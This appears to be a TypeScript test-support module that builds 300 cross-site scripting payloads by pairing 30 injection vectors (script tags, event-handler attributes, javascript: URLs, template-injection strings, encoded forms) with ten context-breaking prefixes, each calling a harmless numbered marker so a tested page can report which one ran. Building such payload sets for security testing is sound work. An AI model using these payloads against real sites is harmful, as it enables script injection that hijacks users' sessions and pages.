/** Texts that run a script where a page takes them for markup, for an address or for code. */

/** The function that every payload calls with its own number. Pages get it from the proof. */
export const calledByPayloads = 'ran';

/** The number of the payload in a text, of however many there are. */
export const callIn = /ran\((\d+)\)/g;

type Vector = (call: string) => string;

const vectors: readonly Vector[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src=javascript:parent.${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<svg><a xlink:href=javascript:${call}>x`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<form action=javascript:${call}><button>x`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><img src=x onerror=${call}>`,
  (call) => `<base href=javascript:${call}//>`,
  (call) => `<meta http-equiv=refresh content=0;url=javascript:${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `javascript:${call}`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `';${call}//`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
];

/** What ends the place of a text, so that the rest is no longer inside it. */
const endings = ['', '">', "'>", '</script>', '</title>', '</textarea>', '</style>', '-->', ']]>', '" x="'];

/** Every vector after every ending: 300 texts of at most 80 characters. */
export const payloads: readonly string[] = endings.flatMap((ending, row) =>
  vectors.map((vector, column) => {
    const call = `${calledByPayloads}(${row * vectors.length + column + 1})`;
    return `${ending}${vector(call)}`;
  }),
);
